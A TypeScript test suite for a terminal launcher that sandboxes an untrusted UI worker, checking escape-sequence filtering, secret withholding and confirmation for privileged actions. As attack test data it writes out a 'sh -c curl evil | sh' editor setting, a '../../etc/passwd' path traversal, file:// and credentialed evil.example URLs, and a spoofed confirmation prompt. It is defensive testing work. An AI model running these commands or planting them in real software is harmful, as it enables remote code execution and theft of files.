import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseLaunchArgs } from "../../src/host/args.ts";
import { runLauncher } from "../../src/host/launcher.ts";
import { CONFIRM_AFTER_MS } from "../../src/host/trusted-ui.ts";
import { DEVICE_TOKEN_HEADER } from "../../src/protocol/server-info.ts";
import { FakeTerminal } from "../support/fake-terminal.ts";
import { startTestServer, type TestServer } from "../support/p2-server.ts";

let server: TestServer;
beforeAll(async () => {
	server = await startTestServer();
});
afterAll(() => server.stop());

function launch(bundle: string, terminal: FakeTerminal, limits = {}, home = "/home/secret") {
	return runLauncher({
		args: parseLaunchArgs(["a", "draft"]),
		target: {
			kind: "device",
			origin: () => server.server.origin,
			credentials: () => ({ [DEVICE_TOKEN_HEADER]: server.server.deviceToken }),
		},
		env: { TERM: "xterm-256color", HOME: home, AWS_SECRET_ACCESS_KEY: "nope" },
		fetchBundle: async () => ({ source: bundle, hash: "test" }),
		terminal: terminal as never,
		mouse: "on",
		limits,
	});
}

describe("launcher", () => {
	test("worker output is filtered, titles sanitized, frames relayed, and the terminal reset on exit", async () => {
		const bundle = `globalThis.p2Guest = { start(host) {
			const out = (data) => host.post({ kind: "output", data });
			host.onMessage((m) => {
				if (m.kind === "connection" && m.state === "open") host.post({ kind: "frame", text: JSON.stringify({ t: "open", h: 1, object: "access", version: 1, input: {} }) });
				if (m.kind === "frame") out("FRAME:" + JSON.parse(m.text).t + ";");
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
			});
			out("\\x1b[?1049h\\x1b[?1000h\\x1b]52;c;c2VjcmV0\\x07VISIBLE\\x1b[6n\\x1bP$qm\\x1b\\\\");
			out("START:" + JSON.stringify(host.start.env) + ":" + host.start.args.draft + ";");
			host.post({ kind: "status", action: { kind: "title", text: "evil\\x1b]52;c;x\\x07title" + "x".repeat(200) } });
			host.post({ kind: "ready" });
		} };`;
		const terminal = new FakeTerminal();
		const result = launch(bundle, terminal);
		await terminal.until("FRAME:snapshot;");
		await terminal.until("VISIBLE");
		expect(terminal.output).not.toContain("\x1b]52;");
		expect(terminal.output).not.toContain("[6n");
		expect(terminal.output).not.toContain("$q");
		expect(terminal.output).toContain('START:{"TERM":"xterm-256color"}:a draft;');
		expect(terminal.output).not.toContain("secret");
		const title = /\x1b\]0;([^\x07]*)\x07/.exec(terminal.output)?.[1] ?? "";
		expect(title.startsWith("evil]52;c;xtitle")).toBe(true);
		expect([...title].length).toBe(80);
		terminal.onInput?.("q");
		expect((await result).code).toBe(0);
		expect(terminal.stopped).toBe(true);
		const tail = terminal.output.slice(terminal.output.lastIndexOf("FRAME"));
		expect(tail).toContain("\x1b[?1000l");
		expect(tail).toContain("\x1b[?1049l");
		expect(tail).toContain("\x1b]0;\x07");
	}, 20000);

	test("a worker that hangs is replaced, with the last snapshot (the draft) handed over", async () => {
		const bundle = `globalThis.p2Guest = { start(host) {
			const out = (data) => host.post({ kind: "output", data });
			out("REASON:" + host.start.reason + ":" + (host.start.snapshot ?? "none") + ";");
			host.onMessage((m) => {
				if (m.kind === "snapshotRequest") host.post({ kind: "snapshot", data: '{"version":1,"draft":"kept"}' });
				if (m.kind === "input" && m.data === "h") setTimeout(() => { for (;;) {} }, 0);
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
			});
			host.post({ kind: "ready" });
		} };`;
		const terminal = new FakeTerminal();
		const result = launch(bundle, terminal, { heartbeatMs: 100, heartbeatTimeoutMs: 700 });
		await terminal.until("REASON:start:none;");
		await Bun.sleep(2300); // the launcher asks for a snapshot every 2 s
		terminal.onInput?.("h");
		await terminal.until('REASON:restart:{"version":1,"draft":"kept"};');
		terminal.onInput?.("q");
		const done = await result;
		expect(done.code).toBe(0);
		expect(done.problems.join("\n")).toContain("unresponsive");
	}, 20000);

	test("three Ctrl+C within a second end p2 even when the UI ignores them", async () => {
		const bundle = `globalThis.p2Guest = { start(host) { host.post({ kind: "output", data: "UP" }); host.post({ kind: "ready" }); } };`;
		const terminal = new FakeTerminal();
		const result = launch(bundle, terminal);
		await terminal.until("UP");
		for (let i = 0; i < 3; i++) terminal.onInput?.("\x03");
		expect((await result).code).toBe(130);
		expect(terminal.stopped).toBe(true);
	}, 20000);

	test("a newer bundle on the server replaces the UI, the draft carried over; an unchanged one does not", async () => {
		const version = (v: string) => `globalThis.p2Guest = { start(host) {
			host.post({ kind: "output", data: "UI-${v}:" + host.start.reason + ":" + (host.start.snapshot ?? "none") + ";" });
			host.onMessage((m) => {
				if (m.kind === "snapshotRequest") host.post({ kind: "snapshot", data: '{"version":1,"draft":"d-${v}"}' });
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
			});
			host.post({ kind: "ready" });
		} };`;
		let served = { source: version("1"), hash: "h1" };
		const asked: (string | undefined)[] = [];
		const terminal = new FakeTerminal();
		const result = runLauncher({
			args: parseLaunchArgs([]),
			target: {
				kind: "device",
				origin: () => server.server.origin,
				credentials: () => ({ [DEVICE_TOKEN_HEADER]: server.server.deviceToken }),
			},
			env: { TERM: "xterm-256color" },
			fetchBundle: async (running) => {
				asked.push(running);
				return running === served.hash ? undefined : served;
			},
			bundleCheckMs: 150,
			terminal: terminal as never,
		});
		await terminal.until("UI-1:start:none;");
		await Bun.sleep(500);
		expect(terminal.output).not.toContain("UI-1:reload");
		expect(asked.filter((h) => h === "h1").length).toBeGreaterThan(1);
		served = { source: version("2"), hash: "h2" };
		await terminal.until('UI-2:reload:{"version":1,"draft":"d-1"};');
		terminal.onInput?.("q");
		expect((await result).code).toBe(0);
		expect(terminal.output.match(/UI-2:reload/g)?.length).toBe(1);
	}, 20000);

	test("savePrefs: refused without a screen for launcher ids and other keys; asked on the launcher's own screen otherwise", async () => {
		const home = mkdtempSync(join(tmpdir(), "p2-launcher-prefs-"));
		const bundle = `globalThis.p2Guest = { start(host) {
			const out = (data) => host.post({ kind: "output", data });
			const ask = (id, patch) => host.post({ kind: "request", id, action: "savePrefs", payload: { patch } });
			host.onMessage((m) => {
				if (m.kind === "response") out("ANSWER:" + m.id + ":" + m.ok + ":" + (m.error ?? "") + ";");
				if (m.kind === "preferences") out("PREFS:" + (m.preferences.theme ?? "none") + ";");
				if (m.kind === "redraw") out("REDRAW;");
				if (m.kind === "input" && m.data === "1") {
					ask("a", { keybindings: { "app.clipboard.pasteImage": ["enter"] } });
					ask("b", { externalEditor: "sh -c 'curl evil | sh'" });
				}
				if (m.kind === "input" && m.data === "3") {
					ask("c", { theme: "dark" });
					setTimeout(() => out("WHILE-ASKING"), 100);
				}
				if (m.kind === "input" && m.data === "2") ask("d", { theme: "dark" });
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
				if (m.kind === "input" && !["1", "2", "3", "q"].includes(m.data)) out("LEAKED:" + m.data + ";");
			});
			host.post({ kind: "ready" });
		} };`;
		const terminal = new FakeTerminal();
		const result = launch(bundle, terminal, {}, home);
		const prefs = join(home, ".pi", "p2-tui", "prefs.json");
		try {
			await Bun.sleep(300);
			terminal.onInput?.("1");
			await terminal.until("ANSWER:a:false:app.clipboard.pasteImage is the launcher's");
			await terminal.until('ANSWER:b:false:"externalEditor" cannot be changed from the UI;');
			expect(terminal.output).not.toContain("not the server's screen");
			terminal.onInput?.("3");
			await terminal.until("not the server's screen");
			expect(terminal.output).toContain('+ theme: "dark"');
			await Bun.sleep(200);
			expect(terminal.output).not.toContain("WHILE-ASKING");
			terminal.onInput?.("z");
			terminal.onInput?.("n");
			await terminal.until("ANSWER:c:false:declined;");
			expect(terminal.output).toContain("REDRAW;");
			expect(existsSync(prefs)).toBe(false);
			terminal.onInput?.("2");
			for (let i = 0; i < 100 && terminal.output.split("not the server's screen").length < 3; i++) await Bun.sleep(20);
			// A "y" typed before the screen could be read is not consent.
			terminal.onInput?.("y");
			await Bun.sleep(50);
			expect(existsSync(prefs)).toBe(false);
			await Bun.sleep(CONFIRM_AFTER_MS);
			terminal.onInput?.("y");
			await terminal.until("ANSWER:d:true:;");
			expect(JSON.parse(readFileSync(prefs, "utf8"))).toEqual({ theme: "dark" });
			// The new preferences reach the UI before the answer does.
			const tail = terminal.output.slice(terminal.output.lastIndexOf("REDRAW;"));
			expect(tail.indexOf("PREFS:dark;")).toBeLessThan(tail.indexOf("ANSWER:d:true"));
			expect(terminal.output).not.toContain("LEAKED");
			terminal.onInput?.("q");
			expect((await result).code).toBe(0);
		} finally {
			rmSync(home, { recursive: true, force: true });
		}
	}, 20000);

	test("the session the UI reports is handed to the launcher's memory; a malformed one is not", async () => {
		const bundle = `globalThis.p2Guest = { start(host) {
			host.onMessage((m) => {
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
			});
			host.post({ kind: "output", data: "LAST:" + (host.start.args.lastSession ?? "none") + ";" });
			host.post({ kind: "navigation", session: "../../etc/passwd" });
			host.post({ kind: "navigation", session: "0a0a0a0a-0000-4000-8000-000000000001" });
			host.post({ kind: "ready" });
		} };`;
		const terminal = new FakeTerminal();
		const seen: string[] = [];
		const result = runLauncher({
			args: parseLaunchArgs([]),
			target: {
				kind: "device",
				origin: () => server.server.origin,
				credentials: () => ({ [DEVICE_TOKEN_HEADER]: server.server.deviceToken }),
			},
			env: { TERM: "xterm-256color", HOME: "/home/secret" },
			fetchBundle: async () => ({ source: bundle, hash: "test" }),
			terminal: terminal as never,
			mouse: "on",
			lastSession: "0a0a0a0a-0000-4000-8000-000000000000",
			onNavigation: (session) => seen.push(session),
		});
		await terminal.until("LAST:0a0a0a0a-0000-4000-8000-000000000000;");
		for (let i = 0; i < 50 && !seen.length; i++) await Bun.sleep(20);
		expect(seen).toEqual(["0a0a0a0a-0000-4000-8000-000000000001"]);
		terminal.onInput?.("q");
		expect((await result).code).toBe(0);
	}, 20000);

	test("the launcher's keys never reach the worker, unless its own text input asked for every key", async () => {
		const bundle = `globalThis.p2Guest = { start(host) {
			const out = (data) => host.post({ kind: "output", data });
			host.onMessage((m) => {
				if (m.kind === "ask") { out("ASK:" + m.question + ";"); host.post({ kind: "answer", id: m.id, text: null }); }
				if (m.kind === "actionDone") out("DONE:" + m.action + ":" + m.detail + ";");
				if (m.kind === "input") {
					out("IN:" + JSON.stringify(m.data) + ";");
					if (m.data === "s") host.post({ kind: "keyContext", suspendPrivileged: true });
					if (m.data === "q") host.post({ kind: "exit", code: 0 });
				}
			});
			host.post({ kind: "ready" });
		} };`;
		const terminal = new FakeTerminal();
		const result = launch(bundle, terminal);
		await Bun.sleep(300);
		terminal.onInput?.("\x18");
		await terminal.until("ASK:copyText;");
		await terminal.until("DONE:copy.key:Nothing to copy;");
		expect(terminal.output).not.toContain('IN:"\\u0018"');
		terminal.onInput?.("s");
		await terminal.until('IN:"s";');
		await Bun.sleep(50);
		terminal.onInput?.("\x18");
		await terminal.until('IN:"\\u0018";');
		terminal.onInput?.("q");
		expect((await result).code).toBe(0);
	}, 20000);

	test("a question on the launcher's screen: the worker's output stays off it, and navigating away withdraws it", async () => {
		const home = mkdtempSync(join(tmpdir(), "p2-launcher-nav-"));
		const bundle = `globalThis.p2Guest = { start(host) {
			const out = (data) => host.post({ kind: "output", data });
			host.onMessage((m) => {
				if (m.kind === "response") out("ANSWER:" + m.ok + ":" + (m.error ?? "") + ";");
				if (m.kind === "input" && m.data === "1") {
					host.post({ kind: "navigation", session: "0a0a0a0a-0000-4000-8000-000000000001" });
					host.post({ kind: "request", id: "c", action: "copy", payload: { text: "harmless", label: "the answer" } });
					setTimeout(() => {
						out("\\x1b[2J\\x1b[HFAKE Enter or y: confirm");
						host.post({ kind: "navigation", session: "0a0a0a0a-0000-4000-8000-000000000002" });
					}, 150);
				}
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
			});
			host.post({ kind: "ready" });
		} };`;
		const terminal = new FakeTerminal();
		const result = launch(bundle, terminal, {}, home);
		try {
			await Bun.sleep(300);
			terminal.onInput?.("1");
			await terminal.until("not the server's screen");
			await terminal.until("ANSWER:false:cancelled;");
			expect(terminal.output).not.toContain("FAKE");
			terminal.onInput?.("q");
			expect((await result).code).toBe(0);
		} finally {
			rmSync(home, { recursive: true, force: true });
		}
	}, 20000);

	test("openUrl: only https without credentials, shown in full and opened only on a yes", async () => {
		const bundle = `globalThis.p2Guest = { start(host) {
			const out = (data) => host.post({ kind: "output", data });
			const ask = (id, url) => host.post({ kind: "request", id, action: "openUrl", payload: { url } });
			host.onMessage((m) => {
				if (m.kind === "response") out("ANSWER:" + m.id + ":" + m.ok + ":" + (m.error ?? "") + ";");
				if (m.kind === "input" && m.data === "1") {
					ask("a", "file:///etc/passwd");
					ask("b", "https://user:secret@evil.example/");
				}
				if (m.kind === "input" && m.data === "2") ask("c", "https://auth.example/sign-in?state=1");
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
			});
			host.post({ kind: "ready" });
		} };`;
		const terminal = new FakeTerminal();
		const result = launch(bundle, terminal);
		await Bun.sleep(300);
		terminal.onInput?.("1");
		await terminal.until("ANSWER:a:false:only https addresses without credentials are opened;");
		await terminal.until("ANSWER:b:false:only https addresses without credentials are opened;");
		expect(terminal.output).not.toContain("not the server's screen");
		terminal.onInput?.("2");
		await terminal.until("https://auth.example/sign-in?state=1");
		expect(terminal.output).toContain("Action: Open this address in your browser (the UI asked)");
		terminal.onInput?.("n");
		await terminal.until("ANSWER:c:false:declined;");
		terminal.onInput?.("q");
		expect((await result).code).toBe(0);
	}, 20000);

	test("copy on select: denied without the person's own mouse gesture, written by the launcher right after one", async () => {
		const bundle = `globalThis.p2Guest = { start(host) {
			const out = (data) => host.post({ kind: "output", data });
			host.onMessage((m) => {
				if (m.kind === "response") out("ANSWER:" + m.id + ":" + m.ok + ":" + (m.error ?? "") + ";");
				if (m.kind === "input" && m.data === "1") host.post({ kind: "request", id: "a", action: "copy.selection", payload: { text: "stolen" } });
				if (m.kind === "input" && m.data.endsWith("m")) host.post({ kind: "request", id: "b", action: "copy.selection", payload: { text: "selected" } });
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
			});
			host.post({ kind: "ready" });
		} };`;
		const terminal = new FakeTerminal();
		const result = launch(bundle, terminal);
		await Bun.sleep(300);
		terminal.onInput?.("1");
		await terminal.until("ANSWER:a:false:denied;");
		terminal.onInput?.("\x1b[<0;5;5M");
		terminal.onInput?.("\x1b[<32;9;5M");
		terminal.onInput?.("\x1b[<0;9;5m");
		await terminal.until("ANSWER:b:true:;");
		expect(terminal.output).toContain(`\x1b]52;c;${Buffer.from("selected").toString("base64")}\x07`);
		expect(terminal.output).not.toContain(Buffer.from("stolen").toString("base64"));
		terminal.onInput?.("q");
		expect((await result).code).toBe(0);
	}, 20000);

	test("signOut: refused for this device's server; for a remote one, asked first, then posted with the launcher's cookie", async () => {
		const bundle = `globalThis.p2Guest = { start(host) {
			const out = (data) => host.post({ kind: "output", data });
			host.onMessage((m) => {
				if (m.kind === "response") out("ANSWER:" + m.id + ":" + m.ok + ":" + (m.error ?? "") + ";");
				if (m.kind === "input" && m.data === "1") host.post({ kind: "request", id: "a", action: "signOut", payload: { all: false } });
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
			});
			out("START:" + JSON.stringify(host.start) + ";");
			host.post({ kind: "ready" });
		} };`;
		const device = new FakeTerminal();
		const onDevice = launch(bundle, device);
		await Bun.sleep(300);
		device.onInput?.("1");
		await device.until("ANSWER:a:false:this device's own server has no sign-in to end;");
		device.onInput?.("q");
		expect((await onDevice).code).toBe(0);

		const posted: { path: string; cookie: string | null; origin: string | null }[] = [];
		const remote = Bun.serve({
			port: 0,
			hostname: "127.0.0.1",
			fetch(req) {
				const url = new URL(req.url);
				if (req.method === "POST")
					posted.push({ path: url.pathname, cookie: req.headers.get("cookie"), origin: req.headers.get("origin") });
				return Response.json({ ok: true });
			},
		});
		const origin = `http://127.0.0.1:${remote.port}`;
		const terminal = new FakeTerminal();
		const result = runLauncher({
			args: parseLaunchArgs([]),
			target: { kind: "owner", origin: () => origin, credentials: () => ({ cookie: "p2_owner=abc" }) },
			env: { TERM: "xterm-256color", HOME: "/home/secret" },
			fetchBundle: async () => ({ source: bundle, hash: "test" }),
			terminal: terminal as never,
			mouse: "on",
		});
		try {
			await Bun.sleep(300);
			terminal.onInput?.("1");
			await terminal.until("Sign out of this server on this device");
			await Bun.sleep(CONFIRM_AFTER_MS + 50);
			terminal.onInput?.("y");
			await terminal.until("ANSWER:a:true:;");
			expect(posted).toEqual([{ path: "/owner/logout", cookie: "p2_owner=abc", origin }]);
			// The cookie signs the launcher's own requests; the worker never sees it.
			expect(terminal.output).toContain("START:");
			expect(terminal.output).not.toContain("p2_owner=abc");
			terminal.onInput?.("q");
			await result;
		} finally {
			remote.stop(true);
		}
	}, 20000);

	test("attach: the launcher opens the file itself (no symlinks, FIFOs or directories), asks, and uploads to the session on screen", async () => {
		const dir = mkdtempSync(join(tmpdir(), "p2-attach-"));
		writeFileSync(join(dir, "notes.txt"), "attached words");
		symlinkSync(join(dir, "notes.txt"), join(dir, "link.txt"));
		Bun.spawnSync(["mkfifo", join(dir, "pipe")]);
		const session = server.server.ctx.catalog.create({ cwd: dir, title: "attach target" }).id;
		const bundle = `globalThis.p2Guest = { start(host) {
			const out = (data) => host.post({ kind: "output", data });
			const ask = (id, path) => host.post({ kind: "request", id, action: "attach", payload: { path } });
			host.onMessage((m) => {
				if (m.kind === "response") out("ANSWER:" + m.id + ":" + m.ok + ":" + (m.error ?? "") + ":" + JSON.stringify(m.attached ?? null) + ";");
				if (m.kind === "input" && m.data === "0") ask("none", ${JSON.stringify(join(dir, "notes.txt"))});
				if (m.kind === "input" && m.data === "1") {
					host.post({ kind: "navigation", session: ${JSON.stringify(session)} });
					ask("link", ${JSON.stringify(join(dir, "link.txt"))});
					ask("pipe", ${JSON.stringify(join(dir, "pipe"))});
					ask("dir", ${JSON.stringify(dir)});
				}
				if (m.kind === "input" && m.data === "2") ask("ok", ${JSON.stringify(join(dir, "notes.txt"))});
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
			});
			host.post({ kind: "ready" });
		} };`;
		const terminal = new FakeTerminal();
		const result = launch(bundle, terminal);
		try {
			await Bun.sleep(300);
			terminal.onInput?.("0");
			await terminal.until("ANSWER:none:false:no session is open to send it to:null;");
			terminal.onInput?.("1");
			await terminal.until("ANSWER:link:false:");
			await terminal.until("ANSWER:dir:false:");
			expect(terminal.output).toContain("link.txt is a symbolic link; name the file it points to");
			expect(terminal.output).toContain("pipe is not a regular file");
			expect(terminal.output).toContain(`${dir} is a directory`);
			expect(terminal.output).not.toContain("not the server's screen");
			terminal.onInput?.("2");
			await terminal.until("Send a file from this computer to the server");
			expect(terminal.output).toContain(`Session: ${session}`);
			expect(terminal.output).toContain("Size: 14 bytes");
			await Bun.sleep(CONFIRM_AFTER_MS + 50);
			terminal.onInput?.("y");
			await terminal.until("ANSWER:ok:true::");
			const attached = JSON.parse(/ANSWER:ok:true::(\{[^;]*\});/.exec(terminal.output)![1]!);
			expect(attached).toMatchObject({ name: "notes.txt", size: 14, mimeType: "text/plain" });
			expect(terminal.output).not.toContain(`"path"`);
			terminal.onInput?.("q");
			expect((await result).code).toBe(0);
		} finally {
			rmSync(dir, { recursive: true, force: true });
		}
	}, 20000);

	test("p2.attach, bound in the person's own keybindings.json, opens the launcher's picker; the worker never sees the key", async () => {
		const home = mkdtempSync(join(tmpdir(), "p2-attach-key-"));
		mkdirSync(join(home, ".pi", "agent"), { recursive: true });
		writeFileSync(join(home, ".pi", "agent", "keybindings.json"), JSON.stringify({ "p2.attach": "f9" }));
		const bundle = `globalThis.p2Guest = { start(host) {
			const out = (data) => host.post({ kind: "output", data });
			host.onMessage((m) => {
				if (m.kind === "input") out("IN:" + JSON.stringify(m.data) + ";");
				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
			});
			host.post({ kind: "navigation", session: "0a0a0a0a-0000-4000-8000-000000000001" });
			host.post({ kind: "ready" });
		} };`;
		const terminal = new FakeTerminal();
		const result = launch(bundle, terminal, {}, home);
		try {
			await Bun.sleep(300);
			terminal.onInput?.("\x1b[20~");
			await terminal.until("Choose a file to send");
			terminal.onInput?.("\x1b");
			await Bun.sleep(100);
			terminal.onInput?.("q");
			expect((await result).code).toBe(0);
			expect(terminal.output).not.toContain('IN:"\\u001b[20~"');
		} finally {
			rmSync(home, { recursive: true, force: true });
		}
	}, 20000);
});
